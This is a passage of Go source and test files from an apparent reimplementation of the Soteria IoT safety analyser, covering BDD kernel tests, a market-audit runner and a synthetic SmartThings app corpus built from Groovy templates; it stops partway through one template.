	if n := m.SatCount(x); n != 4 {
		t.Errorf("SatCount(x) = %g", n)
	}
	if n := m.SatCount(m.And(x, y)); n != 2 {
		t.Errorf("SatCount(x∧y) = %g", n)
	}
	if n := m.SatCount(False); n != 0 {
		t.Errorf("SatCount(false) = %g", n)
	}
}

func TestAnySat(t *testing.T) {
	m := New(3)
	f := m.And(m.Var(0), m.NVar(2))
	a := m.AnySat(f)
	if a == nil || !m.Eval(f, a) {
		t.Errorf("AnySat = %v", a)
	}
	if m.AnySat(False) != nil {
		t.Error("AnySat(false) should be nil")
	}
}

func TestSharingKeepsSizeSmall(t *testing.T) {
	// n-bit parity has linear BDD size; a naive representation is
	// exponential.
	m := New(16)
	f := False
	for i := 0; i < 16; i++ {
		f = m.Xor(f, m.Var(i))
	}
	// Size counts every allocated node, including intermediates of the
	// left-to-right fold; it must stay far below the 2^16 worst case.
	if m.Size() > 600 {
		t.Errorf("parity BDD size = %d, expected linear", m.Size())
	}
	if n := m.SatCount(f); n != 32768 { // half of 2^16
		t.Errorf("parity SatCount = %g", n)
	}
}

// Property: double negation is the identity on refs.
func TestDoubleNegation(t *testing.T) {
	m := New(5)
	f := m.Or(m.And(m.Var(0), m.Var(3)), m.Xor(m.Var(1), m.Var(4)))
	if m.Not(m.Not(f)) != f {
		t.Error("¬¬f != f")
	}
}
