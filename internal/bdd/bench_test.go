package bdd

import "testing"

// benchWorkload is a relational-product-shaped exercise over a kernel:
// build an interleaved transition relation for an n-bit "halve"
// machine (next = cur/2), then iterate symbolic preimages from a seed
// set to a fixpoint — the same shape the symbolic CTL engine drives,
// scaled down to benchmark size.
func benchWorkload(k Kernel, bits int) Ref {
	cur := func(i int) int { return 2 * i }
	nxt := func(i int) int { return 2*i + 1 }

	eq := func(v int, w int) Ref { // var v ↔ var w
		return k.Or(k.And(k.Var(v), k.Var(w)), k.And(k.NVar(v), k.NVar(w)))
	}
	// next_i = cur_{i+1} (shift right by one), top next bit = 0.
	trans := k.NVar(nxt(bits - 1))
	for i := 0; i < bits-1; i++ {
		trans = k.And(trans, eq(nxt(i), cur(i+1)))
	}

	nextVars := map[int]bool{}
	curToNext := map[int]int{}
	for i := 0; i < bits; i++ {
		nextVars[nxt(i)] = true
		curToNext[cur(i)] = nxt(i)
	}
	vs := k.InternVarSet(nextVars)
	sh := k.InternShift(curToNext)

	// Seed: cur == 0. Fixpoint: backward reachability of the seed.
	seed := True
	for i := 0; i < bits; i++ {
		seed = k.And(seed, k.NVar(cur(i)))
	}
	z := seed
	for {
		next := k.RenameShift(z, sh)
		nz := k.Or(z, k.AndExistsSet(trans, next, vs))
		if nz == z {
			return z
		}
		z = nz
	}
}

const benchBits = 12

// BenchmarkBDDNewKernel runs the preimage-fixpoint workload on the
// open-addressed Manager. Compare against BenchmarkBDDLegacyKernel.
func BenchmarkBDDNewKernel(b *testing.B) {
	for i := 0; i < b.N; i++ {
		m := New(2 * benchBits)
		if benchWorkload(m, benchBits) == False {
			b.Fatal("fixpoint collapsed to false")
		}
	}
}

// BenchmarkBDDLegacyKernel runs the identical workload on the retained
// map-based kernel.
func BenchmarkBDDLegacyKernel(b *testing.B) {
	for i := 0; i < b.N; i++ {
		m := NewLegacy(2 * benchBits)
		if benchWorkload(m, benchBits) == False {
			b.Fatal("fixpoint collapsed to false")
		}
	}
}

// TestBenchWorkloadKernelsAgree pins the two benchmark workloads to the
// same function, so the benchmark comparison is apples-to-apples.
func TestBenchWorkloadKernelsAgree(t *testing.T) {
	nm := New(2 * benchBits)
	lm := NewLegacy(2 * benchBits)
	rn := benchWorkload(nm, benchBits)
	rl := benchWorkload(lm, benchBits)
	if nm.SatCount(rn) != lm.SatCount(rl) {
		t.Fatalf("benchmark workload differs across kernels: %g vs %g",
			nm.SatCount(rn), lm.SatCount(rl))
	}
	// Every state reaches 0 by repeated halving, so backward
	// reachability of {0} over current variables is the full cur-space:
	// 2^bits assignments × 2^bits free next-variable assignments.
	if got, want := nm.SatCount(rn), pow2(2*benchBits); got != want {
		t.Fatalf("fixpoint SatCount = %g, want %g", got, want)
	}
}
