package audit

import (
	"context"
	"fmt"
	"sync"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/market"
	"github.com/soteria-analysis/soteria/internal/properties"
)

// spyCache wraps a real cache and counts the audit's interactions with
// it.
type spyCache struct {
	inner   core.ResultCache
	mu      sync.Mutex
	lookups int
	stores  int
}

func (s *spyCache) LookupAnalysis(key string) (*core.Analysis, bool) {
	s.mu.Lock()
	s.lookups++
	s.mu.Unlock()
	return s.inner.LookupAnalysis(key)
}

func (s *spyCache) StoreAnalysis(key string, an *core.Analysis) {
	s.mu.Lock()
	s.stores++
	s.mu.Unlock()
	s.inner.StoreAnalysis(key, an)
}

func (s *spyCache) Stats() core.CacheStats { return s.inner.Stats() }

func fingerprint(r *Report) string {
	var sb []byte
	for _, es := range [][]Entry{r.Apps, r.Groups} {
		for _, e := range es {
			sb = fmt.Appendf(sb, "%s=%v/%v/%v;", e.ID, e.Violated, e.Incomplete, e.Err != nil)
		}
	}
	return string(sb)
}

func TestRunCacheInteraction(t *testing.T) {
	items := len(market.All()) + len(market.Groups())
	spy := &spyCache{inner: core.NewCache()}

	first := Run(context.Background(), 4, spy)
	if got := len(first.Apps) + len(first.Groups); got != items {
		t.Fatalf("audit produced %d entries, corpus has %d items", got, items)
	}
	if spy.lookups != items {
		t.Errorf("first audit made %d analysis lookups, want one per item (%d)", spy.lookups, items)
	}
	if spy.stores != items {
		t.Errorf("first audit stored %d analyses, want %d", spy.stores, items)
	}
	if h := spy.Stats().Hits; h != 0 {
		t.Errorf("first audit hit a cold cache %d times", h)
	}

	second := Run(context.Background(), 4, spy)
	if hits := spy.Stats().Hits; hits < int64(items) {
		t.Errorf("second audit only hit the cache %d times, want >= %d", hits, items)
	}
	if spy.stores != items {
		t.Errorf("second audit re-stored analyses (%d stores total, want %d)", spy.stores, items)
	}
	if fingerprint(first) != fingerprint(second) {
		t.Error("cached audit differs from the cold one")
	}

	// The cache is optional: a nil cache must not change the verdicts.
	uncached := Run(context.Background(), 4, nil)
	if fingerprint(first) != fingerprint(uncached) {
		t.Error("uncached audit differs from the cached one")
	}
}

func TestRunViolationOrdering(t *testing.T) {
	rep := Run(context.Background(), 4, nil)

	apps := market.All()
	if len(rep.Apps) != len(apps) {
		t.Fatalf("%d app entries for %d corpus apps", len(rep.Apps), len(apps))
	}
	for i, e := range rep.Apps {
		if e.ID != apps[i].ID {
			t.Errorf("entry %d is %s, corpus order says %s", i, e.ID, apps[i].ID)
		}
		if e.Members != nil {
			t.Errorf("individual app %s carries group members %v", e.ID, e.Members)
		}
	}
	groups := market.Groups()
	if len(rep.Groups) != len(groups) {
		t.Fatalf("%d group entries for %d groups", len(rep.Groups), len(groups))
	}
	for i, e := range rep.Groups {
		if e.ID != groups[i].ID {
			t.Errorf("group entry %d is %s, want %s", i, e.ID, groups[i].ID)
		}
		if len(e.Members) == 0 {
			t.Errorf("group %s lists no members", e.ID)
		}
	}

	someViolations := false
	for _, es := range [][]Entry{rep.Apps, rep.Groups} {
		for _, e := range es {
			if e.Err != nil {
				t.Errorf("%s: hard failure: %v", e.ID, e.Err)
				continue
			}
			seen := map[string]bool{}
			for j, id := range e.Violated {
				someViolations = true
				if seen[id] {
					t.Errorf("%s: duplicate violated ID %s", e.ID, id)
				}
				seen[id] = true
				if j > 0 && properties.IDRank(e.Violated[j-1]) > properties.IDRank(id) {
					t.Errorf("%s: violations out of catalogue order: %s before %s",
						e.ID, e.Violated[j-1], id)
				}
			}
		}
	}
	if !someViolations {
		t.Error("no entry in the whole market audit reports a violation; corpus wiring broken")
	}
}
