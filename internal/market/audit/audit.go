// Package audit fans the whole market corpus — every app individually
// plus the Table 4 groups — out over core.AnalyzeBatch. It lives below
// internal/market (rather than in it) so the corpus package stays free
// of analyzer imports.
package audit

import (
	"context"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/market"
)

// Entry is one row of a market audit: an individual app or a Table 4
// group, with the property IDs it violates.
type Entry struct {
	ID         string   // app ID ("O1".."TP30") or group ID ("G.1".."G.3")
	Members    []string // group member app IDs; nil for individual apps
	Violated   []string // catalogue-ordered violated property IDs
	Incomplete bool     // analysis degraded (budget/fault); verdicts partial
	Err        error    // hard failure (unparseable source)
}

// Report is the outcome of a full market audit.
type Report struct {
	Apps   []Entry // the 65 corpus apps, in ID order
	Groups []Entry // the Table 4 groups, in catalogue order
}

// Run audits the whole corpus — every app individually, then each
// Table 4 group as a multi-app environment — fanned out over a batch
// worker pool. parallel bounds concurrent analyses (values below 2 run
// sequentially); results are always in corpus order and identical to a
// sequential audit's. The cache may be nil; passing one (an in-process
// core.Cache, or the persistent store's AnalysisCache for
// cross-restart reuse) lets group audits reuse IR parsed for the
// individual passes, and repeated audits (across experiment tables)
// reuse whole analyses.
func Run(ctx context.Context, parallel int, cache core.ResultCache) *Report {
	apps := market.All()
	groups := market.Groups()

	items := make([]core.BatchItem, 0, len(apps)+len(groups))
	for _, a := range apps {
		items = append(items, core.BatchItem{
			Key:     a.ID,
			Sources: []core.NamedSource{{Name: a.Name, Source: a.Source}},
		})
	}
	for _, g := range groups {
		var srcs []core.NamedSource
		for _, id := range g.Members {
			a, ok := market.ByID(id)
			if !ok {
				continue
			}
			srcs = append(srcs, core.NamedSource{Name: a.Name, Source: a.Source})
		}
		items = append(items, core.BatchItem{Key: g.ID, Sources: srcs})
	}

	bo := core.BatchOptions{
		Options:  core.DefaultOptions(),
		Parallel: parallel,
		Cache:    cache,
	}
	results := core.AnalyzeBatch(ctx, bo, items...)

	rep := &Report{}
	for i, r := range results {
		e := Entry{ID: r.Key, Err: r.Err}
		if i >= len(apps) {
			e.Members = groups[i-len(apps)].Members
		}
		if r.Analysis != nil {
			e.Violated = r.Analysis.ViolatedIDs()
			e.Incomplete = r.Analysis.Incomplete
		}
		if i < len(apps) {
			rep.Apps = append(rep.Apps, e)
		} else {
			rep.Groups = append(rep.Groups, e)
		}
	}
	return rep
}
