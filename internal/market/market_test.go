package market

import (
	"sort"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/ir"
)

func TestCorpusShape(t *testing.T) {
	all := All()
	if len(all) != 65 {
		t.Fatalf("corpus has %d apps, want 65", len(all))
	}
	off, tp := Officials(), ThirdParty()
	if len(off) != 35 {
		t.Errorf("officials = %d, want 35", len(off))
	}
	if len(tp) != 30 {
		t.Errorf("third-party = %d, want 30", len(tp))
	}
	seen := map[string]bool{}
	for _, a := range all {
		if seen[a.ID] {
			t.Errorf("duplicate ID %s", a.ID)
		}
		seen[a.ID] = true
		if a.Name == "" || a.Category == "" || a.Source == "" {
			t.Errorf("%s: incomplete spec", a.ID)
		}
	}
	for i := 1; i <= 35; i++ {
		if !seen["O"+itoa(i)] {
			t.Errorf("missing O%d", i)
		}
	}
	for i := 1; i <= 30; i++ {
		if !seen["TP"+itoa(i)] {
			t.Errorf("missing TP%d", i)
		}
	}
}

func TestAllAppsParse(t *testing.T) {
	for _, a := range All() {
		if _, err := a.Parse(); err != nil {
			t.Errorf("%s: %v", a.ID, err)
		}
	}
}

func analyze(t *testing.T, ids ...string) map[string]bool {
	t.Helper()
	var apps []*ir.App
	for _, id := range ids {
		spec, ok := ByID(id)
		if !ok {
			t.Fatalf("app %s missing", id)
		}
		app, err := spec.Parse()
		if err != nil {
			t.Fatalf("%s: %v", id, err)
		}
		apps = append(apps, app)
	}
	an, err := core.AnalyzeApps(core.DefaultOptions(), apps...)
	if err != nil {
		t.Fatalf("analyze %v: %v", ids, err)
	}
	set := map[string]bool{}
	for _, v := range an.ViolatedIDs() {
		set[v] = true
	}
	return set
}

// TestTable3Individual reproduces Table 3: TP1–TP9 violate exactly the
// listed properties individually.
func TestTable3Individual(t *testing.T) {
	for id, want := range Table3Expected {
		got := analyze(t, id)
		for _, w := range want {
			if !got[w] {
				t.Errorf("%s: expected %s, reported %v", id, w, keys(got))
			}
		}
	}
}

// TestOfficialAppsClean reproduces Table 3's headline: no official app
// is flagged individually.
func TestOfficialAppsClean(t *testing.T) {
	for _, a := range Officials() {
		got := analyze(t, a.ID)
		if len(got) != 0 {
			t.Errorf("%s (%s): unexpectedly flagged: %v", a.ID, a.Name, keys(got))
		}
	}
}

// TestNonListedThirdPartyClean: third-party apps outside Table 3 are
// individually clean (their problems, if any, only appear in groups).
func TestNonListedThirdPartyClean(t *testing.T) {
	for _, a := range ThirdParty() {
		if _, listed := Table3Expected[a.ID]; listed {
			continue
		}
		got := analyze(t, a.ID)
		if len(got) != 0 {
			t.Errorf("%s (%s): unexpectedly flagged: %v", a.ID, a.Name, keys(got))
		}
	}
}

// TestTable4Groups reproduces Table 4: each group exhibits (at least)
// the listed property violations when its members run in concert.
func TestTable4Groups(t *testing.T) {
	for _, g := range Groups() {
		got := analyze(t, g.Members...)
		for _, w := range g.Expected {
			if !got[w] {
				t.Errorf("%s: expected %s, reported %v", g.ID, w, keys(got))
			}
		}
	}
}

// TestTable2Stats checks the dataset-description shape: device
// diversity and state-model sizes in the same bands as Table 2.
func TestTable2Stats(t *testing.T) {
	check := func(apps []AppSpec, label string, wantMinAvgStates, wantMaxStatesMin, wantMaxStatesMax int) {
		devSet := map[string]bool{}
		total, maxStates := 0, 0
		for _, a := range apps {
			app, err := a.Parse()
			if err != nil {
				t.Fatalf("%s: %v", a.ID, err)
			}
			for _, c := range app.Capabilities() {
				devSet[c] = true
			}
			an, err := core.AnalyzeApps(core.Options{}, app)
			if err != nil {
				t.Fatalf("%s: %v", a.ID, err)
			}
			n := len(an.Model.States)
			total += n
			if n > maxStates {
				maxStates = n
			}
		}
		avg := total / len(apps)
		if len(devSet) < 10 {
			t.Errorf("%s: only %d unique devices", label, len(devSet))
		}
		if avg < wantMinAvgStates {
			t.Errorf("%s: avg states = %d, want >= %d", label, avg, wantMinAvgStates)
		}
		if maxStates < wantMaxStatesMin || maxStates > wantMaxStatesMax {
			t.Errorf("%s: max states = %d, want in [%d, %d]", label, maxStates, wantMaxStatesMin, wantMaxStatesMax)
		}
	}
	// Paper Table 2: officials avg/max 36/180; third-party 32/96.
	check(Officials(), "official", 8, 96, 250)
	check(ThirdParty(), "third-party", 8, 48, 130)
}

func TestLOC(t *testing.T) {
	for _, a := range All() {
		if a.LOC() < 15 {
			t.Errorf("%s: implausibly short source (%d lines)", a.ID, a.LOC())
		}
	}
}

func keys(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

// TestCandidateGroups reproduces §6.1's group study: 28 groups
// examined, exactly the three Table 4 groups violating.
func TestCandidateGroups(t *testing.T) {
	groups := CandidateGroups()
	if len(groups) != 28 {
		t.Fatalf("groups = %d, want 28", len(groups))
	}
	violating := 0
	for _, g := range groups {
		got := analyze(t, g.Members...)
		if len(g.Expected) > 0 {
			violating++
			continue // correctness of G.1-G.3 asserted in TestTable4Groups
		}
		if len(got) != 0 {
			t.Errorf("clean group %s (%v) flagged: %v", g.ID, g.Members, keys(got))
		}
	}
	if violating != 3 {
		t.Errorf("violating groups = %d, want 3", violating)
	}
}
