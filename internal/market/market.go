// Package market is the 65-app market corpus of the paper's §6.1
// evaluation: 35 "official" apps (O1–O35, mirroring the vetted
// SmartThings repository) and 30 "community third-party" apps
// (TP1–TP30, mirroring the SmartThings forum). The 2017 snapshots the
// paper used are unavailable, so the corpus is synthetic — constructed
// to reproduce the paper's observables: TP1–TP9 exhibit exactly the
// Table 3 individual violations, the three G.1–G.3 groups exhibit the
// Table 4 multi-app violations, no official app is individually
// flagged, and the device/functionality spread matches Table 2.
package market

import (
	"fmt"
	"sort"

	"github.com/soteria-analysis/soteria/internal/ir"
)

// AppSpec is one corpus app.
type AppSpec struct {
	ID       string // "O1".."O35", "TP1".."TP30"
	Name     string
	Category string // Table 2 functionality spectrum
	Official bool
	Source   string
}

// Group is one Table 4 multi-app group.
type Group struct {
	ID      string   // "G.1".."G.3"
	Members []string // app IDs
	// Expected are the property IDs Table 4 reports for the group.
	Expected []string
}

// Table3Expected maps each individually-flagged third-party app to the
// property IDs Table 3 reports.
var Table3Expected = map[string][]string{
	"TP1": {"P.13"},
	"TP2": {"P.12"},
	"TP3": {"S.4"},
	"TP4": {"P.29"},
	"TP5": {"P.28"},
	"TP6": {"P.13", "S.1"},
	"TP7": {"S.1"},
	"TP8": {"P.1"},
	"TP9": {"S.2"},
}

// Groups returns the Table 4 groups.
func Groups() []Group {
	return []Group{
		{
			ID:      "G.1",
			Members: []string{"O3", "O4", "O8", "TP12"},
			Expected: []string{
				"S.1", "S.2", "S.3",
			},
		},
		{
			ID:      "G.2",
			Members: []string{"O14", "O9", "O16", "TP3", "TP2"},
			Expected: []string{
				"S.2", "S.4",
			},
		},
		{
			ID:      "G.3",
			Members: []string{"O7", "TP3", "O30", "TP21", "O31", "TP22", "O12", "TP19"},
			Expected: []string{
				"P.12", "P.13", "P.14", "P.17", "S.1", "S.2",
			},
		},
	}
}

// CandidateGroups returns the 28 multi-app bundles the evaluation
// examines (paper §6.1: "We examined 28 groups and found three groups
// ... violate 11 properties"): the three violating groups G.1–G.3 plus
// 25 plausible user bundles that are clean. Several clean bundles
// share sensors (a motion sensor driving both a light and a dimmer) or
// device types without conflicting writes, exercising the union
// analysis without violations.
func CandidateGroups() []Group {
	groups := Groups()
	// Clean bundles are chosen to stay clean under the shared-device
	// semantics of a group (devices of the same capability are the
	// same physical device): member apps neither write the same
	// actuator attribute nor complete a property's device set that the
	// group then leaves unsatisfied.
	clean := [][]string{
		{"O2", "O17"},        // smoke siren + humidity fan
		{"O2", "O23"},        // smoke siren + sun shade
		{"O2", "O26"},        // smoke siren + irrigation valve
		{"O5", "O10"},        // leak valve + motion light
		{"O5", "O19"},        // leak valve + sleep lights
		{"O10", "O27"},       // motion light + laundry announcer
		{"O13", "O23"},       // presence mode sync + sun shade
		{"O15", "O25"},       // energy guard + door chime
		{"O17", "O25"},       // humidity fan + door chime
		{"O19", "O24"},       // sleep lights + freezer watchdog
		{"O20", "O23"},       // CO alarm + sun shade
		{"O21", "O26"},       // entry snapshot + irrigation
		{"O22", "O25"},       // battery sentinel + door chime
		{"O24", "O28"},       // freezer watchdog + hall dimmer
		{"O27", "O32"},       // laundry announcer + closet light
		{"O11", "O23"},       // night lockup + sun shade
		{"O11", "O24"},       // night lockup + freezer watchdog
		{"O18", "O23"},       // garage greeter + sun shade
		{"O2", "O23", "O26"}, // three-way disjoint bundle
		{"TP14", "TP13"},     // aquarium leak stop + stairs light
		{"TP16", "TP20"},     // greenhouse fan + shop bell
		{"TP23", "TP28"},     // battery lamp + dryer jingle
		{"TP24", "TP26"},     // shed camera + greenhouse drip
		{"TP17", "TP27"},     // nursery sleep lights + cabin CO siren
		{"TP20", "TP29"},     // shop bell + pantry dimmer
	}
	for i, members := range clean {
		groups = append(groups, Group{
			ID:      fmt.Sprintf("C.%d", i+1),
			Members: members,
		})
	}
	return groups
}

// All returns the 65 corpus apps in ID order (officials first).
func All() []AppSpec {
	out := make([]AppSpec, 0, len(handwritten)+42)
	for _, a := range handwritten {
		// The standard notification plumbing every market app carries
		// (see generated.go); it performs no device actions.
		a.Source += notifyBoiler
		out = append(out, a)
	}
	out = append(out, generated()...)
	sort.Slice(out, func(i, j int) bool {
		oi, oj := out[i], out[j]
		if oi.Official != oj.Official {
			return oi.Official
		}
		return idLess(oi.ID, oj.ID)
	})
	return out
}

func idLess(a, b string) bool {
	na, nb := idNum(a), idNum(b)
	if na != nb {
		return na < nb
	}
	return a < b
}

func idNum(id string) int {
	n := 0
	for _, r := range id {
		if r >= '0' && r <= '9' {
			n = n*10 + int(r-'0')
		}
	}
	return n
}

// ByID returns the app with the given ID.
func ByID(id string) (AppSpec, bool) {
	for _, a := range All() {
		if a.ID == id {
			return a, true
		}
	}
	return AppSpec{}, false
}

// Officials and ThirdParty split the corpus.
func Officials() []AppSpec { return filter(true) }

// ThirdParty returns the community apps.
func ThirdParty() []AppSpec { return filter(false) }

func filter(official bool) []AppSpec {
	var out []AppSpec
	for _, a := range All() {
		if a.Official == official {
			out = append(out, a)
		}
	}
	return out
}

// Parse builds the IR of a corpus app.
func (a AppSpec) Parse() (*ir.App, error) {
	app, err := ir.BuildSource(a.Name, a.Source)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", a.ID, err)
	}
	return app, nil
}

// LOC counts the app's source lines (Table 2's LoC column).
func (a AppSpec) LOC() int {
	n := 0
	for _, c := range a.Source {
		if c == '\n' {
			n++
		}
	}
	return n
}
