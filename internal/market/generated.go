package market

import "fmt"

// The remainder of the corpus is synthesised from behaviour templates,
// mirroring how real market apps cluster around a handful of recipes
// (presence lighting, leak protection, energy guards, ...). Each
// instantiation varies the devices, handles, categories, and
// thresholds so every app is a distinct program; all are written to be
// property-clean, matching Table 3's finding that no official app (and
// none of TP10+ except the group members) is individually flagged.

type tmplParams struct {
	name     string
	category string
	handleA  string
	handleB  string
	titleA   string
	titleB   string
	num      int
}

func header(p tmplParams, description string) string {
	return fmt.Sprintf(`
/**
 * %s
 *
 * %s
 *
 * Part of the synthetic market corpus; behaviour mirrors the recipes
 * common on the SmartThings market.
 */
definition(
    name: %q,
    namespace: "market",
    author: "Corpus",
    description: %q,
    category: %q,
    iconUrl: "https://example.com/icons/%s.png",
    iconX2Url: "https://example.com/icons/%s@2x.png")
`, p.name, description, p.name, description, p.category, p.handleA, p.handleA)
}

// notifyBoiler is the notification plumbing most market apps carry: a
// preferences section for recipients and a send() helper. It performs
// no device actions, so it does not affect the analysis verdicts.
const notifyBoiler = `
def send(msg) {
    log.debug "notify: $msg"
    if (location.contactBookEnabled) {
        if (recipients) {
            sendNotificationToContacts(msg, recipients)
        }
    } else {
        sendPush(msg)
        if (notifyPhone) {
            sendSms(notifyPhone, msg)
        }
    }
}

def notificationPrefs() {
    // Rendered on the settings page; collected at install time.
    section("Notifications") {
        input("recipients", "contact", title: "Send notifications to", required: false) {
            input "notifyPhone", "phone", title: "Phone number (optional)", required: false
        }
    }
}
`

func presenceLights(p tmplParams) string {
	return header(p, "Turns the lights on when someone arrives and off when everyone leaves.") + fmt.Sprintf(`
preferences {
    section("Lights") {
        input %q, "capability.switch", title: %q, required: true
    }
    section("Presence") {
        input %q, "capability.presenceSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "presence.present", arrivedHandler)
    subscribe(%s, "presence.not present", departedHandler)
}

def arrivedHandler(evt) {
    log.debug "arrived: $evt.value"
    %s.on()
}

def departedHandler(evt) {
    log.debug "departed: $evt.value"
    %s.off()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA, p.handleA)
}

func leakValve(p tmplParams) string {
	return header(p, "Shuts the main water valve when a leak is detected.") + fmt.Sprintf(`
preferences {
    section("Leak protection") {
        input %q, "capability.valve", title: %q, required: true
        input %q, "capability.waterSensor", title: %q, required: true
    }
    section("Notify") {
        input "phone", "phone", title: "Phone number", required: false
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "water.wet", wetHandler)
}

def wetHandler(evt) {
    log.warn "leak detected: $evt.value"
    %s.close()
    if (phone) {
        sendSms(phone, "Leak detected — valve closed")
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleA)
}

func smokeSiren(p tmplParams) string {
	return header(p, "Sounds the siren while smoke is detected.") + fmt.Sprintf(`
preferences {
    section("Safety") {
        input %q, "capability.alarm", title: %q, required: true
        input %q, "capability.smokeDetector", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "smoke", smokeHandler)
}

def smokeHandler(evt) {
    log.debug "smoke: $evt.value"
    if (evt.value == "detected") {
        %s.siren()
    }
    if (evt.value == "clear") {
        %s.off()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleA, p.handleA)
}

func motionLights(p tmplParams) string {
	return header(p, "Motion-controlled lighting.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.switch", title: %q, required: true
        input %q, "capability.motionSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "motion.active", activeHandler)
    subscribe(%s, "motion.inactive", inactiveHandler)
}

def activeHandler(evt) {
    %s.on()
}

def inactiveHandler(evt) {
    %s.off()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA, p.handleA)
}

func nightLock(p tmplParams) string {
	return header(p, "Locks the door every night at the configured time.") + fmt.Sprintf(`
preferences {
    section("Door") {
        input %q, "capability.lock", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unschedule()
    initialize()
}
def initialize() {
    schedule("0 0 %d * * ?", lockHandler)
}

def lockHandler() {
    log.debug "night lockup"
    %s.lock()
    sendPush("Door locked for the night")
}
`, p.handleA, p.titleA, p.num, p.handleA)
}

func modeByPresence(p tmplParams) string {
	return header(p, "Keeps the location mode in sync with presence.") + fmt.Sprintf(`
preferences {
    section("Presence") {
        input %q, "capability.presenceSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "presence.present", arrivedHandler)
    subscribe(%s, "presence.not present", departedHandler)
}

def arrivedHandler(evt) {
    setLocationMode("home")
}

def departedHandler(evt) {
    setLocationMode("away")
}
`, p.handleA, p.titleA, p.handleA, p.handleA)
}

func energyGuard(p tmplParams) string {
	return header(p, "Switches a heavy load off above a power threshold and back on below a low-water mark.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.switch", title: %q, required: true
        input %q, "capability.powerMeter", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "power", powerHandler)
}

def powerHandler(evt) {
    def above = %d
    def below = %d
    def power_val = %s.currentValue("power")
    if (power_val > above) {
        %s.off()
    }
    if (power_val < below) {
        %s.on()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.num, p.num/10, p.handleB, p.handleA, p.handleA)
}

func humidityFan(p tmplParams) string {
	return header(p, "Runs the bathroom fan while humidity is above the configured threshold.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.fanControl", title: %q, required: true
        input %q, "capability.relativeHumidityMeasurement", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "humidity", humidityHandler)
}

def humidityHandler(evt) {
    def threshold = %d
    def level = %s.currentValue("humidity")
    if (level > threshold) {
        %s.fanOn()
    } else {
        %s.fanOff()
    }
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.num, p.handleB, p.handleA, p.handleA)
}

func garageArrival(p tmplParams) string {
	return header(p, "Opens the garage on arrival and closes it on departure.") + fmt.Sprintf(`
preferences {
    section("Garage") {
        input %q, "capability.garageDoorControl", title: %q, required: true
        input %q, "capability.presenceSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "presence.present", arrivedHandler)
    subscribe(%s, "presence.not present", departedHandler)
}

def arrivedHandler(evt) {
    %s.open()
}

def departedHandler(evt) {
    %s.close()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA, p.handleA)
}

func sleepLights(p tmplParams) string {
	return header(p, "Turns the bedroom lights off when the sleep sensor detects sleep.") + fmt.Sprintf(`
preferences {
    section("Devices") {
        input %q, "capability.switch", title: %q, required: true
        input %q, "capability.sleepSensor", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "sleeping.sleeping", asleepHandler)
}

def asleepHandler(evt) {
    log.debug "asleep"
    %s.off()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleA)
}

func coAlarm(p tmplParams) string {
	return header(p, "Sounds the alarm on carbon monoxide detection.") + fmt.Sprintf(`
preferences {
    section("Safety") {
        input %q, "capability.alarm", title: %q, required: true
        input %q, "capability.carbonMonoxideDetector", title: %q, required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "carbonMonoxide.detected", coHandler)
    subscribe(%s, "carbonMonoxide.clear", clearHandler)
}

def coHandler(evt) {
    %s.both()
}

def clearHandler(evt) {
    %s.off()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleB, p.handleA, p.handleA)
}

func camContact(p tmplParams) string {
	return header(p, "Takes a snapshot when motion is seen while the entry is armed.") + fmt.Sprintf(`
preferences {
    section("Security") {
        input %q, "capability.imageCapture", title: %q, required: true
        input %q, "capability.motionSensor", title: %q, required: true
        input "entry", "capability.contactSensor", title: "Entry contact", required: true
    }
}

def installed() { initialize() }
def updated() {
    unsubscribe()
    initialize()
}
def initialize() {
    subscribe(%s, "motion.active", motionHandler)
}

def motionHandler(evt) {
    log.debug "motion — taking snapshot"
    %s.take()
}
`, p.handleA, p.titleA, p.handleB, p.titleB, p.handleB, p.handleA)
}

func batteryWatch(p tmplParams) string {
